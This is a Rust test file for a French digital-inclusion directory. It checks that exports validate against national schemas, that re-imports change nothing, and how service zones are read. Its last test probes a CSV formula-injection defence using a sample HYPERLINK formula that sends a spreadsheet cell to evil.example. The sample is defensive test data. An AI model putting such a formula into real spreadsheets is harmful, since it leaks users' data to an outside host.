//! The exports of the demo directory (built from every real source) validate against the national
//! schemas, and importing them back changes nothing.

use super::{data_inclusion, schema_lieux};
use crate::merge::plan;
use crate::seed::{import_all, FILES};
use crate::{parse, Context};
use domain::commune_search::Gazetteer;
use domain::directory::Directory;
use serde_json::Value;
use std::sync::OnceLock;

fn gazetteer() -> &'static Gazetteer {
    static G: OnceLock<Gazetteer> = OnceLock::new();
    G.get_or_init(|| Gazetteer::new(domain::test_data::geography()))
}

fn seeded() -> &'static Directory {
    static D: OnceLock<Directory> = OnceLock::new();
    D.get_or_init(|| {
        let (directory, _) = import_all(Directory::default(), FILES, gazetteer(), &|_| true, "2026-11-29").unwrap();
        crate::permanences::add(directory, crate::permanences::FILE, gazetteer(), &|_| true).unwrap()
    })
}

#[test]
fn the_passages_go_out_whole_in_our_own_json_and_read_back_the_same() {
    let exported = super::passages::json(seeded());
    let items = exported.as_array().unwrap();
    assert_eq!(items.len(), 3, "the three France services with permanences");
    for item in items {
        let service = seeded().service(item["service_id"].as_str().unwrap()).unwrap();
        let back: Vec<domain::passage::Passage> = serde_json::from_value(item["passages"].clone()).unwrap();
        assert_eq!(back, service.passages, "nothing is lost");
        assert_eq!(item["structure_id"], service.structure.as_str());
    }
}

#[test]
fn a_permanence_goes_out_in_the_standards_words_itinerant_and_in_the_zone() {
    let with_passages = seeded().services().iter().find(|v| v.passages.iter().any(|p| p.code_insee.as_str() == "01416")).unwrap();
    let services = data_inclusion::services(seeded(), &SITE);
    let exported = services.iter().find(|v| v["id"] == with_passages.id.as_str()).unwrap();
    let zone: Vec<&str> = exported["zone_eligibilite"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(zone.contains(&"01416") || zone.contains(&"france") || zone.contains(&"01"), "Tenay is served: {zone:?}");
    let csv = schema_lieux::csv(seeded(), "2026-11-29");
    let row = csv.lines().find(|l| l.contains(&with_passages.structure)).unwrap();
    assert!(row.contains("Itinérant"), "{row}");
}

const SITE: data_inclusion::Site = data_inclusion::Site { origin: "https://aiguillage.example", today: "2026-11-29" };

fn validator(schema: &str) -> jsonschema::Validator {
    jsonschema::validator_for(&serde_json::from_str(schema).unwrap()).unwrap()
}

#[test]
fn data_inclusion_structures_and_services_validate_against_the_v1_schemas() {
    let structures = data_inclusion::structures(seeded(), &SITE);
    let services = data_inclusion::services(seeded(), &SITE);
    assert!(structures.len() > 150 && services.len() > 150);
    for (items, schema) in [
        (structures, include_str!("../schemas/data-inclusion-v1-structure.json")),
        (services, include_str!("../schemas/data-inclusion-v1-service.json")),
    ] {
        let v = validator(schema);
        for item in &items {
            let errors: Vec<String> = v.iter_errors(item).map(|e| format!("{} at {}", e, e.instance_path())).collect();
            assert!(errors.is_empty(), "{}: {errors:?}", item["id"]);
        }
    }
}

#[test]
fn the_schema_des_lieux_csv_follows_the_table_schema() {
    let schema: Value = serde_json::from_str(include_str!("../schemas/schema-lieux-mediation-numerique-v1.0.2.json")).unwrap();
    let fields = schema["fields"].as_array().unwrap();
    let names: Vec<&str> = fields.iter().map(|f| f["name"].as_str().unwrap()).collect();
    assert_eq!(names, schema_lieux::COLUMNS, "the standard's columns, in its order");
    let csv = schema_lieux::csv(seeded(), "2026-11-29");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let mut rows = 0;
    for record in reader.records() {
        let record = record.unwrap();
        rows += 1;
        for (field, value) in fields.iter().zip(record.iter()) {
            let name = field["name"].as_str().unwrap();
            let constraints = &field["constraints"];
            if value.is_empty() {
                assert!(constraints["required"] != true, "{name} is required (row {rows})");
                continue;
            }
            if let Some(pattern) = constraints["pattern"].as_str() {
                let re = regex::Regex::new(&format!("^(?:{pattern})$")).unwrap();
                assert!(re.is_match(value), "{name} = {value:?} does not match {pattern}");
            }
            match field["type"].as_str() {
                Some("number") => assert!(value.parse::<f64>().is_ok(), "{name} = {value}"),
                Some("date") => assert!(value.len() == 10 && value.as_bytes()[4] == b'-', "{name} = {value}"),
                _ => {}
            }
        }
    }
    assert!(rows > 150, "{rows}");
}

fn reimport(bytes: &[u8], name: &str) -> crate::merge::Plan {
    let valid = |_: &str| true;
    let parsed = parse(bytes, &Context { gazetteer: gazetteer(), date: "2026-11-29".into(), hours_valid: &valid }).unwrap();
    assert!(parsed.refusals.is_empty(), "{name}: {:?}", parsed.refusals);
    plan(seeded().structures(), seeded().services(), parsed)
}

#[test]
fn importing_our_own_export_changes_nothing() {
    let csv = schema_lieux::csv(seeded(), "2026-11-29");
    let p = reimport(csv.as_bytes(), "csv");
    assert_eq!(p.created(), 0, "{}", crate::report::render("export.csv", &p, false));
    assert!(p.changes_nothing(), "{}", crate::report::render("export.csv", &p, false));
    let json = schema_lieux::json(seeded(), "2026-11-29").to_string();
    let p = reimport(json.as_bytes(), "json");
    assert!(p.changes_nothing(), "{}", crate::report::render("export.json", &p, false));
}

#[test]
fn importing_our_own_data_inclusion_export_changes_nothing() {
    let both = serde_json::json!({
        "structures": data_inclusion::structures(seeded(), &SITE),
        "services": data_inclusion::services(seeded(), &SITE),
    });
    let p = reimport(both.to_string().as_bytes(), "data·inclusion");
    assert!(p.parsed.format.starts_with("data·inclusion"), "{}", p.parsed.format);
    assert!(p.parsed.candidates.len() > 150);
    assert_eq!(p.created(), 0, "{}", crate::report::render("di.json", &p, false));
    assert!(p.changes_nothing(), "{}", crate::report::render("di.json", &p, false));
}

#[test]
fn a_data_inclusion_v1_service_of_another_source_becomes_a_place_with_its_help() {
    let service = serde_json::json!([{
        "source": "dora", "id": "svc-1", "structure_id": "st-9", "nom": "Atelier numérique seniors",
        "description": "Ateliers pour apprendre.", "date_maj": "2025-06-01",
        "thematiques": ["numerique--maitriser-les-fondamentaux-du-numerique"], "publics": ["seniors"],
        "type": "atelier", "frais": "gratuit", "modes_accueil": ["en-presentiel"],
        "adresse": "2 rue de la Gare", "code_insee": "01269", "code_postal": "01130", "commune": "Nantua",
        "latitude": 46.155, "longitude": 5.606
    }]);
    let p = reimport(service.to_string().as_bytes(), "dora");
    assert_eq!(p.created(), 1, "{}", crate::report::render("dora.json", &p, false));
    let s = &p.structures[0];
    assert_eq!((s.id.as_str(), s.sources[0].date.as_str()), ("dora-st-9", "2025-06-01"));
    let v = &p.services[0];
    assert_eq!(v.services, [domain::taxonomy::ServiceKind::Quotidien]);
    assert_eq!(v.publics, [domain::taxonomy::Public::Seniors]);
    assert_eq!(v.modalites_accompagnement, [domain::taxonomy::Accompaniment::Atelier]);
}

#[test]
fn a_data_inclusion_service_keeps_the_zone_it_says_it_serves() {
    use domain::directory::Coverage;
    use domain::geo::InseeCode;
    let with_zone = |zone: serde_json::Value| {
        let service = serde_json::json!([{
            "source": "dora", "id": "svc-2", "structure_id": "st-10", "nom": "Aide numérique à domicile",
            "date_maj": "2025-06-01", "thematiques": ["numerique--realiser-des-demarches-administratives-avec-un-accompagnement"],
            "type": "accompagnement", "modes_accueil": ["en-presentiel"], "zone_eligibilite": zone,
            "adresse": "2 rue de la Gare", "code_insee": "01269", "code_postal": "01130", "commune": "Nantua"
        }]);
        let p = reimport(service.to_string().as_bytes(), "dora");
        assert_eq!(p.created(), 1, "{}", crate::report::render("dora.json", &p, false));
        p.services[0].zone.clone()
    };
    let communes = with_zone(serde_json::json!(["01269", "01416"]));
    assert_eq!(communes, Coverage::Communes(vec![InseeCode::parse("01269").unwrap(), InseeCode::parse("01416").unwrap()]));
    assert_eq!(with_zone(serde_json::json!(["200042935", "01416"])), Coverage::Epci(vec!["200042935".into()]));
    assert_eq!(with_zone(serde_json::json!(["01"])), Coverage::Departement(vec!["01".into()]));
    assert_eq!(with_zone(serde_json::json!(["france"])), Coverage::National);
    let unsaid = with_zone(serde_json::json!([]));
    assert_eq!(unsaid, with_zone(serde_json::json!(["pas un code !"])), "nothing usable: the rules' zone");
    assert_ne!(unsaid, communes);
}

#[test]
fn a_formula_in_a_name_or_an_address_is_written_as_text() {
    use super::spreadsheet_safe;
    assert_eq!(
        spreadsheet_safe("=HYPERLINK(\"https://evil.example/?\"&A2;\"Mettre à jour\")"),
        "'=HYPERLINK(\"https://evil.example/?\"&A2;\"Mettre à jour\")"
    );
    assert_eq!(spreadsheet_safe("@SUM(1+1) 12 rue de la Gare"), "'@SUM(1+1) 12 rue de la Gare");
    assert_eq!(spreadsheet_safe("-2+3"), "'-2+3");
    assert_eq!(spreadsheet_safe("\tcmd"), "'\tcmd");
    // Numbers stay numbers: phones, coordinates.
    assert_eq!(spreadsheet_safe("+33474386571"), "+33474386571");
    assert_eq!(spreadsheet_safe("-0.5"), "-0.5");
    assert_eq!(spreadsheet_safe("Mairie de Nantua"), "Mairie de Nantua");
}
